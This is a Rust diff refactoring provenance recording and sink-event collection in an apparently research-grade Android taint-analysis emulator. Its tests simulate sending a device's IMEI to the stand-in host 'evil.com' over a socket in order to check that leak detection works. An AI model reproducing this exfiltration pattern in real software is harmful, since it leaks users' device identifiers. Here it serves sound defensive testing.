@@ -11,7 +11,7 @@ use crate::oracle::ReferenceAnalysis;
 use crate::report::RunReport;
 use ndroid_arm::asm::CodeBlock;
 use ndroid_arm::{Cpu, Memory};
-use ndroid_dvm::{Dvm, DvmError, LeakEvent, Program, Taint};
+use ndroid_dvm::{Dvm, DvmError, LeakEvent, Program, Recorder, SinkContext, Taint};
 use ndroid_emu::kernel::Kernel;
 use ndroid_emu::layout;
 use ndroid_emu::os_view::{self, ProcessView, TaskWriter, Vma};
@@ -20,7 +20,7 @@ use ndroid_emu::shadow::ShadowState;
 use ndroid_emu::trace::TraceLog;
 use ndroid_jni::install_jni;
 use ndroid_libc::install_all;
-use ndroid_provenance::{FlowGraph, Handle, ProvEvent};
+use ndroid_provenance::{FlowGraph, ProvEvent};
 use std::sync::OnceLock;
 
 /// Which analysis configuration runs the app.
@@ -108,11 +108,6 @@ pub struct NDroidSystem {
     analysis: AnalysisBox,
     /// The configuration this system runs under.
     pub mode: Mode,
-    /// The provenance recorder. The same store is shared (via cloned
-    /// handles) with the DVM, the shadow state and the kernel, so
-    /// Java-context, JNI-boundary and native events interleave in one
-    /// globally ordered stream.
-    prov: Handle,
 }
 
 impl std::fmt::Debug for NDroidSystem {
@@ -165,8 +160,6 @@ impl NDroidSystem {
         cpu.regs[13] = layout::NATIVE_STACK_TOP;
         let mut dvm = Dvm::new(program);
         dvm.taint_tracking = mode != Mode::Vanilla;
-        let prov = Handle::with_capacity(config.provenance, config.provenance_capacity);
-        dvm.prov = prov.clone();
         let analysis = analysis_for(&config);
         let mut tasks = TaskWriter::new();
         // The usual Android cast: zygote and system_server exist in the
@@ -216,15 +209,13 @@ impl NDroidSystem {
         let mut blocks = ndroid_arm::block::BlockCache::new();
         blocks.enabled = config.blocks && config.engine == EngineKind::Optimized;
         let mut shadow = ShadowState::new();
-        shadow.prov = prov.clone();
-        let mut kernel = Kernel::new();
-        kernel.prov = prov.clone();
+        shadow.prov = Recorder::new(config.provenance, config.provenance_capacity);
         NDroidSystem {
             cpu,
             mem,
             dvm,
             shadow,
-            kernel,
+            kernel: Kernel::new(),
             trace: if config.quiet {
                 TraceLog::disabled()
             } else {
@@ -237,7 +228,6 @@ impl NDroidSystem {
             blocks,
             analysis,
             mode,
-            prov,
         }
     }
 
@@ -332,14 +322,12 @@ impl NDroidSystem {
         ndroid_emu::runtime::call_guest(&mut ctx, self.table, entry, args, |_, _| {})
     }
 
-    /// Every sink invocation (Java and native contexts), in the order
-    /// they were recorded within each context.
+    /// Every sink invocation: the Java-context ones, then the native
+    /// ones, each in run order.
     pub fn all_sink_events(&self) -> Vec<&LeakEvent> {
-        self.dvm
-            .events
-            .iter()
-            .chain(self.kernel.events.iter())
-            .collect()
+        let log = self.shadow.prov.sinks();
+        let java = log.iter().filter(|e| e.context == SinkContext::Java);
+        java.chain(log.iter().filter(|e| e.context == SinkContext::Native)).collect()
     }
 
     /// The detected leaks (tainted sink hits) across both contexts.
@@ -398,15 +386,12 @@ impl NDroidSystem {
             s.block_invalidations = self.blocks.invalidations;
             s.blocks_built = self.blocks.built;
         }
-        let provenance_store = self.prov.freeze();
+        let provenance_store = self.shadow.prov.freeze();
         RunReport {
             mode: self.mode,
             engine: self.engine(),
             sink_events: self.all_sink_events().into_iter().cloned().collect(),
-            network_log: self
-                .kernel
-                .events
-                .iter()
+            network_log: (self.shadow.prov.sinks().iter())
                 .filter(|e| matches!(e.sink, "send" | "sendto"))
                 .map(|e| (e.dest.clone(), e.data.clone(), e.taint))
                 .collect(),
@@ -416,26 +401,25 @@ impl NDroidSystem {
             bytecodes: self.bytecodes(),
             provenance: provenance_store
                 .as_ref()
-                .map(|s| s.summary(self.prov.level())),
+                .map(|s| s.summary(self.shadow.prov.level())),
             provenance_store,
         }
     }
 
-    /// The provenance recorder handle (shared with the DVM, shadow
-    /// state and kernel).
-    pub fn provenance(&self) -> &Handle {
-        &self.prov
+    /// The run's recorder (owned by the shadow state).
+    pub fn provenance(&self) -> &Recorder {
+        &self.shadow.prov
     }
 
     /// A snapshot of the recorded provenance events, in emission order.
     pub fn prov_events(&self) -> Vec<ProvEvent> {
-        self.prov.snapshot()
+        self.shadow.prov.snapshot()
     }
 
     /// Builds the leak-path flow graph over the recorded provenance
     /// events (empty when provenance is [`ndroid_provenance::Level::Off`]).
     pub fn flow_graph(&self) -> FlowGraph {
-        self.prov.flow_graph()
+        self.shadow.prov.flow_graph()
     }
 
     /// Guest (ARM) instructions retired so far.
@@ -484,11 +468,9 @@ impl NDroidSystem {
     ///   built against byte-identical pages with identical write
     ///   generations, so they stay warm and their hit/miss/invalidation
     ///   counters replay exactly as a fresh run would produce them;
-    /// - the provenance store is forked (sealed segments and the
-    ///   unsealed hot tier `Arc`-shared, the tier copied on the first
-    ///   push of either side) and the forked handle re-wired
-    ///   into the DVM, shadow state and kernel so all four views keep
-    ///   appending to *one* store per fork.
+    /// - the recorder is cloned with the shadow state that owns it:
+    ///   sealed segments and the unsealed hot tier are `Arc`-shared,
+    ///   and the tier is copied on the first push of either side.
     fn fork_clone(&self) -> NDroidSystem {
         let mem = self.mem.fork();
         let epoch = mem.epoch();
@@ -497,19 +479,12 @@ impl NDroidSystem {
         let mut blocks = self.blocks.clone();
         blocks.rebind_epoch(epoch);
         let analysis = self.analysis.clone();
-        let prov = self.prov.fork();
-        let mut dvm = self.dvm.clone();
-        dvm.prov = prov.clone();
-        let mut shadow = self.shadow.clone();
-        shadow.prov = prov.clone();
-        let mut kernel = self.kernel.clone();
-        kernel.prov = prov.clone();
         NDroidSystem {
             cpu: self.cpu.clone(),
             mem,
-            dvm,
-            shadow,
-            kernel,
+            dvm: self.dvm.clone(),
+            shadow: self.shadow.clone(),
+            kernel: self.kernel.clone(),
             trace: self.trace.clone(),
             budget: self.budget,
             table: self.table,
@@ -518,7 +493,6 @@ impl NDroidSystem {
             blocks,
             analysis,
             mode: self.mode,
-            prov,
         }
     }
 }
@@ -620,21 +594,10 @@ mod tests {
             let mut p = Program::new();
             install_framework(&mut p);
             let mut sys = NDroidSystem::new(p, mode);
-            let imei = sys.dvm.invoke_by_name(
-                "Landroid/telephony/TelephonyManager;",
-                "getDeviceId",
-                &[],
-                &mut ndroid_dvm::interp::NoNatives,
-            );
+            let imei = sys.run_java("Landroid/telephony/TelephonyManager;", "getDeviceId", &[]);
             let (v, t) = imei.unwrap();
             let dest = sys.dvm.new_string("evil.com", Taint::CLEAR);
-            sys.dvm
-                .invoke_by_name(
-                    "Ljava/net/Socket;",
-                    "send",
-                    &[(dest, Taint::CLEAR), (v, t)],
-                    &mut ndroid_dvm::interp::NoNatives,
-                )
+            sys.run_java("Ljava/net/Socket;", "send", &[(dest, Taint::CLEAR), (v, t)])
                 .unwrap();
             assert_eq!(sys.leaks().len(), 1, "{mode}: pure-Java leak caught");
         }
@@ -643,22 +606,10 @@ mod tests {
     /// Drives the canonical pure-Java leak through `sys`.
     fn java_leak(sys: &mut NDroidSystem) {
         let (v, t) = sys
-            .dvm
-            .invoke_by_name(
-                "Landroid/telephony/TelephonyManager;",
-                "getDeviceId",
-                &[],
-                &mut ndroid_dvm::interp::NoNatives,
-            )
+            .run_java("Landroid/telephony/TelephonyManager;", "getDeviceId", &[])
             .unwrap();
         let dest = sys.dvm.new_string("evil.com", Taint::CLEAR);
-        sys.dvm
-            .invoke_by_name(
-                "Ljava/net/Socket;",
-                "send",
-                &[(dest, Taint::CLEAR), (v, t)],
-                &mut ndroid_dvm::interp::NoNatives,
-            )
+        sys.run_java("Ljava/net/Socket;", "send", &[(dest, Taint::CLEAR), (v, t)])
             .unwrap();
     }
 
@@ -704,23 +655,11 @@ mod tests {
     fn vanilla_mode_sees_no_taint() {
         let mut sys = boot(Mode::Vanilla);
         let (v, t) = sys
-            .dvm
-            .invoke_by_name(
-                "Landroid/telephony/TelephonyManager;",
-                "getDeviceId",
-                &[],
-                &mut ndroid_dvm::interp::NoNatives,
-            )
+            .run_java("Landroid/telephony/TelephonyManager;", "getDeviceId", &[])
             .unwrap();
         assert!(t.is_clear());
         let dest = sys.dvm.new_string("evil.com", Taint::CLEAR);
-        sys.dvm
-            .invoke_by_name(
-                "Ljava/net/Socket;",
-                "send",
-                &[(dest, Taint::CLEAR), (v, Taint::CLEAR)],
-                &mut ndroid_dvm::interp::NoNatives,
-            )
+        sys.run_java("Ljava/net/Socket;", "send", &[(dest, Taint::CLEAR), (v, Taint::CLEAR)])
             .unwrap();
         assert!(sys.leaks().is_empty());
         assert_eq!(sys.all_sink_events().len(), 1);
